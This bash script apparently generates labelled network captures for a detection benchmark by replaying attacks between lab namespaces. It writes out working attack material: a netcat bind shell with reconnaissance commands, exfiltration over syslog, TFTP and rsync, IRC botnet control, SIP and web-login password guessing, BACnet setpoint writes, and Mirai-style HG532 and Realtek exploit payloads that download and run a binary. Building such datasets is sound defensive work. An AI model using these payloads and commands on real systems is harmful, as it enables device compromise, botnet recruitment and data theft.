#!/usr/bin/env bash
# A NINTH fresh attack set ("f9-*"): techniques none of the earlier sets used, made with real tools between network
# namespaces (three small bounded Python programs where no Debian package gives the far end or the client: a BACnet
# controller and sweep, a SIP registrar that challenges every REGISTER, an IRC bot and its herder).
#   f9-wireguard-4500      a WireGuard tunnel (wireguard-go, wg) to an internet endpoint on udp/4500, the IPsec
#                          NAT-traversal port firewalls leave open; an operator drives a shell through it and
#                          pulls a file, keepalives every 15 s (one UDP flow)
#   f9-syslog-exfil        a file exfiltrated as syslog lines (logger --udp) to an internet "log server" on udp/514
#   f9-tftp-exfil-put      3 files uploaded by TFTP put (tftp-hpa) to an internet tftpd-hpa
#   f9-irc-tls-bot         an IRC botnet client over TLS on 6697 (ngircd), the herder's commands pushed in the channel
#   f9-sip-register-crack  SIP digest password cracking of one extension (sipvicious svcrack) on an internet registrar
#   f9-turn-relay-c2       a channel relayed through a TURN server (coturn's turnutils_uclient / turnserver): one
#                          allocation, a message every 2 s to a peer behind the relay, its echoes back
#   f9-bacnet-sweep-write  BACnet/IP Who-Is sweep of the LAN, ReadProperty of each controller, WriteProperty of a
#                          setpoint on two of them (udp/47808)
#   f9-hg532-realtek-scan  a Mirai-variant scan of 300 random internet addresses on 23 / 2323 / 37215 / 52869
#                          (nmap) and the Huawei HG532 (CVE-2017-17215) and Realtek SDK (CVE-2014-8361) exploit
#                          requests to the hosts that answer (curl)
#   f9-ssh-forward-lan     a neighbour logs into the device's sshd and forwards through it (ssh -L) to another
#                          neighbour's web admin (Basic logins, page fetches) and its telnet port
#   f9-rsync-ssh-2222      3 incremental rsync-over-ssh exfiltrations to an internet sshd on 2222, 20 s apart
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f9-*, veths f9p-*. Internet hosts are /32 addresses on the victim's lo (10.128.95.x and
# three scan targets); every other 10.128/9 address is on no host. Each id's servers are started before its capture
# and stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): wireguard-go wireguard-tools bsdutils (logger) tftp-hpa tftpd-hpa ngircd sipvicious coturn nmap curl
#   openssh-server openssh-client rsync busybox socat tcpdump wireshark-common bc openssl
# Helpers: fresh9/bacnet.py, fresh9/sip-registrar.py, fresh9/irc-bot.py; ../victim-httpd.py, ../victim-telnetd.py.
#
# Usage: bash bench/behavior/fresh9/gen-fresh9.sh [--out DIR (default /work/behavior-bench-fresh9)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh9
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f9 GEN=gen-fresh9
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .95.5 WireGuard endpoint, .95.6 syslog, .95.7 tftpd, .95.8 ngircd, .95.9 SIP registrar, .95.11 TURN server,
# .95.12 the peer behind the relay, .95.14 sshd 2222; scan targets 10.128.47.9 (37215), 10.128.163.40 (52869),
# 10.128.201.7 (23)
SCAN_T="10.128.47.9 10.128.163.40 10.128.201.7"
internet_hosts 10.128.95.5 10.128.95.6 10.128.95.7 10.128.95.8 10.128.95.9 10.128.95.11 10.128.95.12 10.128.95.14 $SCAN_T
lab_tls_cert "irc.example"
export NET VIC_IP ATT_IP W PY HERE LAB


# the "loot": configuration and credentials a device holds
mkdir -p "$W/loot"
{ echo "[wifi]"; echo "ssid=Plant-OT"; echo "psk=$(head -c 12 /dev/urandom | base64)"; echo "[cloud]";
  echo "token=$(head -c 48 /dev/urandom | base64 -w0)"; } > "$W/loot/config.ini"
head -c 60000 /dev/urandom | base64 > "$W/loot/flash-part1.b64"

# ---------- 1. a WireGuard tunnel on udp/4500: an operator's shell through it, a file pulled, keepalives ----------
if want f9-wireguard-4500; then
  wg genkey > "$W/wg-dev.key"; wg pubkey < "$W/wg-dev.key" > "$W/wg-dev.pub"
  wg genkey > "$W/wg-srv.key"; wg pubkey < "$W/wg-srv.key" > "$W/wg-srv.pub"
  chmod 600 "$W"/wg-*.key
  WG_PROCESS_FOREGROUND=1 srv vic 160 wireguard-go -f wg9s
  WS_PID=$BG
  sleep 2
  ns vic wg set wg9s listen-port 4500 private-key "$W/wg-srv.key" peer "$(cat "$W/wg-dev.pub")" allowed-ips 10.200.9.2/32
  ns vic ip addr add 10.200.9.1/24 dev wg9s
  ns vic ip link set wg9s up
  cat > "$W/wg.sh" <<'EOS'
WG_PROCESS_FOREGROUND=1 timeout 110 wireguard-go -f wg9d >/dev/null 2>&1 &
G=$!
sleep 2
wg set wg9d private-key "$W/wg-dev.key" peer "$(cat "$W/wg-srv.pub")" endpoint 10.128.95.5:4500 \
  allowed-ips 10.200.9.1/32 persistent-keepalive 15
ip addr add 10.200.9.2/24 dev wg9d
ip link set wg9d up
timeout 95 busybox nc -l -p 4444 -e /bin/sh &
L=$!
sleep 3
# the operator, at the tunnel's far end: whole command lines, pauses
( sleep 4; for c in "id" "uname -a" "cat /proc/cpuinfo | head -5" "ip -4 addr" "cat /proc/net/arp" "ls -la /tmp" \
    "ps" "cat /etc/passwd" "exit"; do echo "$c"; sleep $((3 + RANDOM % 6)); done ) |
  ip netns exec "$LAB-vic" timeout 80 busybox nc 10.200.9.2 4444 >/dev/null 2>&1 || true
wait $L 2>/dev/null || true
# a file pulled by the operator through the tunnel
ip netns exec "$LAB-vic" timeout 20 socat -u TCP-LISTEN:9000,bind=10.200.9.1,reuseaddr OPEN:/dev/null &
R=$!
sleep 1
timeout 15 socat -u "OPEN:$W/loot/flash-part1.b64" TCP:10.200.9.1:9000 || true
wait $R 2>/dev/null || true
sleep 20
kill $G 2>/dev/null; wait $G 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.95.5 cap f9-wireguard-4500 c2 wireguard-go-udp4500-tunnel attacker public false 120 bash "$W/wg.sh"
  stopbg "$WS_PID"
fi

# ---------- 2. exfiltration as syslog lines (logger --udp) to an internet log host ----------
if want f9-syslog-exfil; then
  srv vic 120 socat -u UDP-RECV:514,bind=10.128.95.6 OPEN:"$W/syslog-recv.log",creat,append
  SL_PID=$BG
  sleep 1
  cat > "$W/syslog.sh" <<'EOS'
{ cat "$W/loot/config.ini"; head -c 45000 "$W/loot/flash-part1.b64" | tr -d '\n' | fold -w 180; echo; } |
  while IFS= read -r l; do printf 'diag seq=%s %s\n' "$RANDOM" "$l"; sleep 0.22; done |
  timeout 100 logger --udp --server 10.128.95.6 --port 514 --rfc3164 --tag 'dropbear[412]' --size 400
EOS
  CAP_VIC_IP=10.128.95.6 cap f9-syslog-exfil exfil logger-udp-syslog attacker public false 110 bash "$W/syslog.sh"
  stopbg "$SL_PID"
fi

# ---------- 3. TFTP put of 3 files to an internet tftpd ----------
if want f9-tftp-exfil-put; then
  mkdir -p "$W/tftproot"; chmod 777 "$W/tftproot"
  srv vic 100 in.tftpd -L -c -p -u root -a 10.128.95.7:69 -s "$W/tftproot"
  TF_PID=$BG
  sleep 1
  head -c 400000 /dev/urandom > "$W/loot/mtdblock3.bin"
  cat > "$W/tftp.sh" <<'EOS'
cd "$W/loot"
timeout 20 tftp -m binary 10.128.95.7 -c put config.ini cfg-7f3a.ini || true
sleep 4
timeout 40 tftp -m binary 10.128.95.7 -c put mtdblock3.bin mtd3-7f3a.bin || true
sleep 6
timeout 30 tftp -m binary 10.128.95.7 -c put flash-part1.b64 p1-7f3a.txt || true
EOS
  CAP_VIC_IP=10.128.95.7 cap f9-tftp-exfil-put exfil tftp-hpa-put attacker public false 90 bash "$W/tftp.sh"
  stopbg "$TF_PID"
fi

# ---------- 4. an IRC bot over TLS (6697, ngircd), the herder's commands pushed in the channel ----------
if want f9-irc-tls-bot; then
  mkdir -p "$W/ngircd"
  cat > "$W/ngircd/ngircd.conf" <<EOF
[Global]
  Name = irc.example.net
  Info = hub
  Listen = 10.128.95.8
  Ports = 6667
  MotdPhrase = welcome
  PidFile = /tmp/f9-ngircd.pid
  ServerUID = 0
  ServerGID = 0
[Limits]
  PingTimeout = 30
  PongTimeout = 20
  MaxConnectionsIP = 10
[Options]
  DNS = no
  Ident = no
  PAM = no
  RequireAuthPing = no
[SSL]
  CertFile = $W/tls.crt
  KeyFile = $W/tls.key
  Ports = 6697
EOF
  srv vic 150 ngircd -n -f "$W/ngircd/ngircd.conf"
  IR_PID=$BG
  sleep 2
  srv vic 120 $PY "$HERE/irc-bot.py" herder 10.128.95.8 6667 110
  HD_PID=$BG
  CAP_VIC_IP=10.128.95.8 cap f9-irc-tls-bot c2 python-ssl-irc-bot-ngircd attacker public false 115 \
    $PY "$HERE/irc-bot.py" bot 10.128.95.8 6697 105
  stopbg "$HD_PID"
  stopbg "$IR_PID"
fi

# ---------- 5. SIP digest password cracking of one extension (svcrack) on an internet registrar ----------
if want f9-sip-register-crack; then
  srv vic 100 $PY "$HERE/sip-registrar.py" 10.128.95.9 5060 95
  SP_PID=$BG
  sleep 1
  printf '%s\n' 100 1000 1234 12345 123456 password admin 0000 1111 voip sip secret pass 100100 4321 qwerty \
    letmein welcome abc123 111111 changeme asterisk phone 2580 9999 test default 54321 000000 > "$W/sip-dict"
  CAP_VIC_IP=10.128.95.9 cap f9-sip-register-crack credential sipvicious-svcrack attacker public false 80 \
    svcrack -u 100 -d "$W/sip-dict" -t 0.5 10.128.95.9
  stopbg "$SP_PID"
fi

# ---------- 6. a channel through a TURN relay: one allocation, a message every 2 s to a peer, echoes back ----------
if want f9-turn-relay-c2; then
  srv vic 140 turnserver -n --no-cli --no-tls --no-dtls --listening-ip=10.128.95.11 --relay-ip=10.128.95.11 \
    --listening-port=3478 --lt-cred-mech --user=dev7f3a:Zq8vP2 --realm=relay.example --userdb="$W/turndb" \
    --pidfile="$W/turnserver.pid" --log-file=stdout --allow-loopback-peers
  TU_PID=$BG
  srv vic 140 turnutils_peer -L 10.128.95.12 -p 3480
  TP_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.95.11 cap f9-turn-relay-c2 c2 coturn-turnutils-uclient attacker public false 110 \
    turnutils_uclient -u dev7f3a -w Zq8vP2 -e 10.128.95.12 -r 3480 -n 40 -z 2000 -l 160 -c -X 10.128.95.11
  stopbg "$TP_PID"
  stopbg "$TU_PID"
fi

# ---------- 7. BACnet/IP: Who-Is sweep, ReadProperty of each controller, a setpoint written on two ----------
if want f9-bacnet-sweep-write; then
  BN=()
  for h in vic:20:1201 d31:31:3101 d33:33:3301; do
    n=${h%%:*} rest=${h#*:} o=${rest%%:*} inst=${rest#*:}
    srv "$n" 90 $PY "$HERE/bacnet.py" server "$NET.$o" "$inst" 85
    BN+=("$BG")
  done
  sleep 1
  cap f9-bacnet-sweep-write lateral python-bacnet-whois-readprop-writeprop attacker lan false 70 \
    $PY "$HERE/bacnet.py" client "$ATT_IP" "$NET.255" 60
  for p in "${BN[@]}"; do stopbg "$p"; done
fi

# ---------- 8. Mirai-variant scan on 23 / 2323 / 37215 / 52869 and the HG532 / Realtek exploits ----------
if want f9-hg532-realtek-scan; then
  srv vic 120 $PY "$HERE/../victim-httpd.py" 10.128.47.9 37215
  E1=$BG
  srv vic 120 $PY "$HERE/../victim-httpd.py" 10.128.163.40 52869
  E2=$BG
  srv vic 120 $PY "$HERE/../victim-telnetd.py" 10.128.201.7:23
  E3=$BG
  sleep 1
  $PY - "$W/scan-targets" $SCAN_T <<'PYEOF'
import random, sys
rnd = random.Random(99)
addrs = {f"10.{rnd.randint(128, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}" for _ in range(320)}
addrs = sorted(addrs - set(sys.argv[2:]))[:297] + sys.argv[2:]
rnd.shuffle(addrs)
open(sys.argv[1], "w").write("\n".join(addrs) + "\n")
PYEOF
  cat > "$W/hg532.sh" <<'EOS'
timeout 45 nmap -n -Pn -sS -p 23,2323,37215,52869 --open --max-retries 0 --min-rate 60 --max-rate 90 \
  -iL "$W/scan-targets" -oG "$W/scan-open" >/dev/null
awk '/Ports:/ && / 37215\/open/ {print $2}' "$W/scan-open" | while read -r h; do
  timeout 10 curl -s -o /dev/null -X POST "http://$h:37215/ctrlt/DeviceUpgrade_1" -u dslf-config:admin \
    -H 'Content-Type: text/xml' -H 'SOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade' \
    --data '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 10.128.95.20 -l /tmp/.m -r /mips; chmod 777 /tmp/.m; /tmp/.m huawei)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' || true
done
awk '/Ports:/ && / 52869\/open/ {print $2}' "$W/scan-open" | while read -r h; do
  timeout 10 curl -s -o /dev/null -X POST "http://$h:52869/picsdesc.xml" \
    -H 'Content-Type: text/xml' -H 'SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' \
    --data '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; wget http://10.128.95.20/rt.mips -O r; chmod 777 r; ./r realtek`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>' || true
done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.47.9 cap f9-hg532-realtek-scan scan nmap+curl-hg532-realtek-exploit attacker wan false 80 \
    bash "$W/hg532.sh"
  stopbg "$E1"; stopbg "$E2"; stopbg "$E3"
fi

# ---------- 9. ssh -L through the device: a neighbour logs in and reaches another neighbour's web admin and telnet ----------
if want f9-ssh-forward-lan; then
  mkdir -p /run/sshd "$W/sshL"
  [ -f "$W/sshL/host" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/sshL/host"
  [ -f "$W/sshL/op" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/sshL/op"
  cp "$W/sshL/op.pub" "$W/sshL/authorized_keys"; chmod 600 "$W/sshL/authorized_keys"
  cat > "$W/sshL/sshd_config" <<EOF
ListenAddress $ATT_IP:22
HostKey $W/sshL/host
AuthorizedKeysFile $W/sshL/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
AllowTcpForwarding yes
StrictModes no
PidFile $W/sshL/sshd.pid
EOF
  srv att 110 /usr/sbin/sshd -D -e -f "$W/sshL/sshd_config"
  SD_PID=$BG
  srv d31 110 $PY "$HERE/../victim-httpd.py" "$NET.31" 80
  WA_PID=$BG
  srv d31 110 $PY "$HERE/../victim-telnetd.py" "$NET.31:23"
  WT_PID=$BG
  sleep 2
  cat > "$W/sshL.sh" <<'EOS'
# the operator on the neighbour .34 (inside the operator's namespace; only the device's link is captured)
ip netns exec "$LAB-d34" bash -c '
timeout 75 ssh -N -i "$W/sshL/op" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
  -o ExitOnForwardFailure=yes -L 127.0.0.1:8081:$NET.31:80 -L 127.0.0.1:2323:$NET.31:23 root@$ATT_IP &
S=$!
sleep 4
for p in / /login.html /cgi-bin/status; do timeout 8 curl -s -o /dev/null "http://127.0.0.1:8081$p" || true; sleep 2; done
for cred in admin:admin admin:1234 root:root admin:password admin:12345; do
  timeout 8 curl -s -o /dev/null -u "$cred" "http://127.0.0.1:8081/admin/" || true; sleep 3
done
( sleep 2; echo admin; sleep 2; echo admin; sleep 2; echo root; sleep 2; echo 12345; sleep 3 ) |
  timeout 20 busybox nc 127.0.0.1 2323 >/dev/null 2>&1 || true
for p in /config.bin /backup.cfg; do timeout 8 curl -s -o /dev/null -u admin:admin "http://127.0.0.1:8081$p" || true; sleep 4; done
kill $S 2>/dev/null; wait $S 2>/dev/null || true
'
EOS
  cap f9-ssh-forward-lan lateral openssh-local-forward-pivot attacker lan false 90 bash "$W/sshL.sh"
  stopbg "$WT_PID"; stopbg "$WA_PID"; stopbg "$SD_PID"
fi

# ---------- 10. rsync over ssh on 2222 to an internet host: 3 incremental runs 20 s apart ----------
if want f9-rsync-ssh-2222; then
  mkdir -p /run/sshd "$W/sshR" "$W/rsync-drop"
  [ -f "$W/sshR/host" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/sshR/host"
  [ -f "$W/sshR/dev" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/sshR/dev"
  cp "$W/sshR/dev.pub" "$W/sshR/authorized_keys"; chmod 600 "$W/sshR/authorized_keys"
  cat > "$W/sshR/sshd_config" <<EOF
ListenAddress 10.128.95.14:2222
HostKey $W/sshR/host
AuthorizedKeysFile $W/sshR/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
StrictModes no
PidFile $W/sshR/sshd.pid
EOF
  srv vic 120 /usr/sbin/sshd -D -e -f "$W/sshR/sshd_config"
  RS_PID=$BG
  sleep 1
  cat > "$W/rsync.sh" <<'EOS'
E="ssh -p 2222 -i $W/sshR/dev -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
mkdir -p "$W/rs-src"
for i in 1 2 3; do
  head -c $((300000 + i * 150000)) /dev/urandom > "$W/rs-src/rec-$i.dat"
  cp "$W/loot/config.ini" "$W/rs-src/"
  timeout 30 rsync -az --timeout=25 -e "$E" "$W/rs-src/" "root@10.128.95.14:$W/rsync-drop/" || true
  [ "$i" = 3 ] || sleep 20
done
EOS
  CAP_VIC_IP=10.128.95.14 cap f9-rsync-ssh-2222 exfil rsync-over-ssh-2222 attacker public false 110 bash "$W/rsync.sh"
  stopbg "$RS_PID"
fi

lab_index
